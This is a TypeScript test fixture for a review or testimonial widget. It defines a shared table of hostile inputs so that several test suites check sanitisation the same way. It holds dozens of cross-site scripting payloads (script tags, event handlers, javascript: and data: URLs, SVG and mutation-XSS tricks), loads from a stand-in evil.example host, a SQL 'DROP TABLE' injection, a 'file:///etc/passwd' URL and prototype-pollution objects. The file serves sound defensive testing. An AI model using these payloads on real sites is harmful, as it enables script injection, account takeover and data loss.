// The hostile-content payload table: every string, number and shape a
// stranger might put into a review, reply, photo caption, testimonial,
// friend's name or referral text, in one place so the happy-dom, jsdom and
// Chromium suites (and the property tests) try exactly the same inputs.
//
// Payloads that would run code call CANARY (a global the tests define and
// watch), so "nothing executes" is a measured fact, not a hope.

/** The global every executing payload would call. */
export const CANARY = '__koubeiCanary';

export type PayloadCategory =
  | 'script'
  | 'attribute'
  | 'url'
  | 'svg'
  | 'mxss'
  | 'css'
  | 'bidi'
  | 'template'
  | 'long'
  | 'number'
  | 'type'
  | 'prototype';

export interface HostilePayload {
  readonly id: string;
  readonly category: PayloadCategory;
  /** A string for text fields; anything at all for the wrong-type categories. */
  readonly value: unknown;
}

const run = `${CANARY}()`;

const SCRIPT = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script>/*</script><img src=x onerror=${run}>*/</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror='${run}'>`,
  `<img/src=x/onerror=${run}>`,
  `<IMG SRC=x OnErRoR=${run}>`,
  `<img src=x onerror&#61;${run}>`,
  `<body onload=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<marquee onstart=${run}>`,
  `<div onmouseover=${run}>hover</div>`,
  `<a href="javascript:${run}">click</a>`,
  `<form action="javascript:${run}"><button>go</button></form>`,
  `<button formaction="javascript:${run}">go</button>`,
  `<base href="javascript:${run}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<link rel=import href="https://evil.example/x.html">`,
  `<isindex type=image src=1 onerror=${run}>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `"><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"\`/+/onmouseover=1/+/[*/[]/+${run};//'>`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<x contenteditable onblur=${run}>lose focus!`,
  `<keygen autofocus onfocus=${run}>`,
];

const ATTRIBUTE = [
  `" onmouseover="${run}`,
  `' onmouseover='${run}`,
  `" autofocus onfocus="${run}" x="`,
  `' autofocus onfocus='${run}' x='`,
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `\`><img src=x onerror=${run}>`,
  `" style="position:fixed;inset:0;z-index:2147483647" x="`,
  `' style='position:fixed;inset:0' x='`,
  `&quot; onmouseover=&quot;${run}`,
  `&#34; onmouseover=&#34;${run}`,
  `&#x27; onfocus=&#x27;${run}`,
  `" href="javascript:${run}`,
  `" src="javascript:${run}`,
  `Jane "The Reviewer" O'Neil <jane@example.com> & co`,
  `a=1&b=2&lt;script&gt;`,
];

const URLS = [
  `javascript:${run}`,
  `JavaScript:${run}`,
  `JAVASCRIPT:${run}`,
  ` javascript:${run}`,
  `\tjavascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java\rscript:${run}`,
  `java\u0000script:${run}`,
  `\u0001java\u0003script:${run}`,
  `\u2028javascript:${run}`,
  `\u00a0javascript:${run}`,
  `\ufeffjavascript:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `javascript&#x3A;${run}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}`,
  `jav&#x09;ascript:${run}`,
  `javascript://%0a${run}`,
  `javascript://https://example.com/%0a${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX2tvdWJlaUNhbmFyeSgpPC9zY3JpcHQ+`,
  `DATA:text/html,<script>${run}</script>`,
  `data:image/svg+xml,<svg onload="${run}"/>`,
  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Il9fa291YmVpQ2FuYXJ5KCkiLz4=`,
  ` data:text/html,x`,
  `vbscript:msgbox(1)`,
  `VBScript:msgbox(1)`,
  `livescript:${run}`,
  `file:///etc/passwd`,
  `blob:https://evil.example/0b2a`,
  `//evil.example/x.png`,
  `\\\\evil.example\\x.png`,
  `/\\evil.example/x.png`,
  `https://user:pass@evil.example/x.png`,
  `http://evil.example/x.png`,
  `https:evil.example/x.png`,
  `https://xn--pple-43d.com/x.png`,
  `https://аpple.com/x.png`,
  `https://evil.example/x.png?"onerror="${run}`,
  `https://evil.example/x.png#"><img src=x onerror=${run}>`,
];

const SVG = [
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${run}>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${run}"/></foreignObject></svg>`,
  `<svg><image href=x onerror=${run}></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
];

const MXSS = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<listing>&lt;img src=1 onerror=${run}&gt;</listing>`,
  `<xmp><img src=x onerror=${run}></xmp>`,
  `<noembed><img title="</noembed><img src=x onerror=${run}>">`,
  `<template><style></template><img src=x onerror=${run}></style></template>`,
  `<a href="&#x6A;avascript:${run}">x</a>`,
  `<img src="x\` \`<script>${run}</script>"\` \`>`,
  `<table><td background="javascript:${run}">`,
  `<!--[if]><script>${run}</script -->`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
];

const CSS = [
  `<style>*{display:none!important}</style>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647">`,
  `expression(${run})`,
  `url("javascript:${run}")`,
  `}body{background:url(https://evil.example/track.gif)}`,
  `</style><style>html{font-size:400px}</style>`,
  `-moz-binding:url(https://evil.example/xss.xml#x)`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `behavior:url(#default#time2)`,
];

const BIDI = [
  'Jane\u202Eyub deifirev',
  '\u202Edesrodne ton\u202C',
  '\u2066isolated\u2069 Verified',
  '\u2067rtl\u2069',
  'zero\u200Bwidth\u200Cjoin\u200Dchars\uFEFF',
  '\u200B\u200B\u200B',
  'NUL\u0000inside',
  'bell\u0007and\u001bescape',
  'line\u2028sep\u2029para',
  'lone \uD800 surrogate',
  'tail surrogate \uDC00',
  'Bob\r\nBcc: all@example.com',
  'مرحبا بالعالم', // Arabic: right-to-left text
  'שלום', // Hebrew
  '😀👍🏽👨‍👩‍👧‍👦🏳️‍🌈',
];

const TEMPLATE = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `{rating} {count} {{t}}`,
  `%s%s%s%n%x`,
  `[click](javascript:${run})`,
  `![" onerror=${run} ](x)`,
  `'; DROP TABLE reviews; --`,
];

const zalgo = `Z${'\u0336\u0337\u0338\u0301\u0302\u0303'.repeat(80)}algo`;
const LONG = [
  'W'.repeat(75), // a long word inside the author-name limit
  'x'.repeat(150), // exactly the title limit
  'y'.repeat(5000), // exactly the body limit, no spaces
  'A'.repeat(10_000), // past every limit: the item is dropped
  zalgo,
  '😀'.repeat(2000),
  `${'word '.repeat(900)}end`,
  'https://example.com/' + 'a'.repeat(4000),
];

const NUMBERS: unknown[] = [
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER + 2,
  -1,
  0,
  6,
  4.5,
  1e-300,
  '5',
  '1e308',
  null,
];

const TYPES: unknown[] = [
  null,
  true,
  [],
  ['a', 'b'],
  {},
  { __html: `<img src=x onerror=${run}>` },
  { dangerouslySetInnerHTML: { __html: `<img src=x onerror=${run}>` } },
  { toString: 'not a function' },
  [[[[[[[[[[['deep']]]]]]]]]]],
];

// Parsed from JSON text, as they arrive from the network: an object literal
// with "__proto__" would set the prototype instead of making a key.
const PROTOTYPE: unknown[] = [
  JSON.parse(`{"__proto__": {"polluted": "yes", "isAdmin": true}}`),
  JSON.parse(`{"constructor": {"prototype": {"polluted": "yes"}}}`),
  JSON.parse(`{"__proto__": {"onclick": "${run}"}}`),
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
];

function table(category: PayloadCategory, values: readonly unknown[]): HostilePayload[] {
  return values.map((value, i) => ({ id: `${category}-${i + 1}`, category, value }));
}

export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  ...table('script', SCRIPT),
  ...table('attribute', ATTRIBUTE),
  ...table('url', URLS),
  ...table('svg', SVG),
  ...table('mxss', MXSS),
  ...table('css', CSS),
  ...table('bidi', BIDI),
  ...table('template', TEMPLATE),
  ...table('long', LONG),
  ...table('number', NUMBERS),
  ...table('type', TYPES),
  ...table('prototype', PROTOTYPE),
];

/** The string payloads: what fits a text field. */
export const HOSTILE_STRINGS: readonly string[] = HOSTILE_PAYLOADS.flatMap((payload) =>
  typeof payload.value === 'string' ? [payload.value] : [],
);

/** URLs no widget may ever put in `href` or `src` (every URL payload is one). */
export const HOSTILE_URLS: readonly string[] = URLS;

/** Keys whose presence on Object.prototype after a test means pollution. */
export const POLLUTION_KEYS = ['polluted', 'isAdmin', 'onclick'] as const;
